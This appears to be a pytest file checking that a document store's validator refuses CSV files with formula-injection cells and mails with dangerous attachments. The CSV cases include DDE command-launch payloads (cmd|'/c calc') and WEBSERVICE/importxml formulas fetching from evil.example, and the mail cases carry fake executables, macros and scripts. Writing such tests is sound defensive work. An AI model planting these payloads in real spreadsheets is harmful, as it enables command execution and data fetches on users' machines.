"""Tests of CSV and of mails sent as files: the same rule as for documents."""

from __future__ import annotations

from email.message import EmailMessage
from pathlib import Path

import pytest

from store.evidence.inspect.active.rule import demand_passive
from store.evidence.inspect.file_types import CSV, EML
from store.evidence.refusals import Fault, FileRejected
from tests.store.evidence import active_pdfs as pdfs
from tests.store.evidence import sample_files as samples


def _file(tmp_path: Path, content: bytes) -> Path:
    file = tmp_path / "it"
    file.write_bytes(content)
    return file


@pytest.mark.parametrize(
    ("line", "fault"),
    [
        ("=cmd|'/c calc'!A1", Fault.STARTS),
        ("a;@SUM(1+1)*cmd|' /C calc'!A0", Fault.STARTS),
        ("1,\"-2+3+cmd|' /C calc'!D2\"", Fault.STARTS),
        ("=" + "1+" * 2_000 + "cmd|'/c calc'!A1", Fault.STARTS),
        ("a\t+MSEXCEL|'\\..\\..\\cmd.exe'!_xlbgnm.A1", Fault.STARTS),
        ('=WEBSERVICE("https://evil.example/")', Fault.LOADS),
        ('x,=importxml("https://evil.example")', Fault.LOADS),
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
def test_a_cell_that_starts_or_fetches_is_refused(
    tmp_path: Path, line: str, fault: Fault, encoding: str
) -> None:
    for text in (line, f"Hours;Rate\r\n{line}\r\n"):
        with pytest.raises(FileRejected) as found:
            demand_passive(CSV, _file(tmp_path, text.encode(encoding)))
        assert found.value.fault is fault


@pytest.mark.parametrize(
    "line",
    [
        '-120.00,"Refund; please call (030) 12345"',
        "-5,register (again)",
        "-1.200,50;please call (030) 12345",
        '"a, please call (030) 1";+49 30 1234',
    ],
)
def test_what_a_person_writes_beside_an_amount_stays(tmp_path: Path, line: str) -> None:
    demand_passive(CSV, _file(tmp_path, f"Amount,Note\r\n{line}\r\n".encode()))


def test_a_cell_of_two_lines_is_judged_as_one(tmp_path: Path) -> None:
    with pytest.raises(FileRejected) as found:
        demand_passive(CSV, _file(tmp_path, b"a,\"=1+\ncmd|'/c calc'!A1\"\n"))
    assert found.value.fault is Fault.STARTS


def test_usual_cells_stay(tmp_path: Path) -> None:
    text = "Hours;-12,50;+49 30 1234;=A1+B2;=SUM(A1:A3)\n2026-01-05|-12.50|Coffee|Thanks!\na|b!c\nCALL (us)\n"
    demand_passive(CSV, _file(tmp_path, text.encode()))


def a_mail(name: str, content: bytes) -> bytes:
    mail = EmailMessage()
    mail["From"], mail["Subject"] = "ana@nordwind.example", "Wrong"
    mail.set_content("See below")
    mail.add_alternative("<p onclick='x()'>See below</p>", subtype="html")
    mail.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
    return mail.as_bytes()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("run.exe", b"MZ\x90\0" + bytes(200)),
        ("invoice.pdf", b"MZ\x90\0" + bytes(200)),
        ("invoice.pdf", pdfs.a_pdf_with(pdfs.attaching("run.exe", b"MZ"))),
        ("hours.xlsx", samples.an_xlsx(**{"xl/vbaProject.bin": b"x"})),
        ("page.html", b"<script>1</script>"),
        ("all.zip", samples.a_zip({"run.exe": b"x"})),
        ("letter.rtf", b"{\\rtf1 x}"),
    ],
)
def test_an_attachment_that_would_be_refused_alone_is_refused_in_a_mail(
    tmp_path: Path, name: str, content: bytes
) -> None:
    inner = a_mail(name, content)
    outer = EmailMessage()
    outer.set_content("Fwd")
    outer.add_attachment(inner, maintype="application", subtype="octet-stream", filename="mail.eml")
    for mail in (inner, outer.as_bytes()):
        with pytest.raises(FileRejected) as found:
            demand_passive(EML, _file(tmp_path, mail))
        assert found.value.fault is Fault.ATTACHED_TO_MAIL


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("invoice.pdf", samples.a_pdf()),
        ("photo.jpg", samples.a_jpeg()),
        ("smime.p7s", b"\x30\x82"),
        ("film.mov", b"\0\0\0\x14ftypqt  " + bytes(99)),
    ],
)
def test_a_mail_with_usual_attachments_stays(tmp_path: Path, name: str, content: bytes) -> None:
    demand_passive(EML, _file(tmp_path, a_mail(name, content)))
    demand_passive(EML, _file(tmp_path, samples.an_eml()))
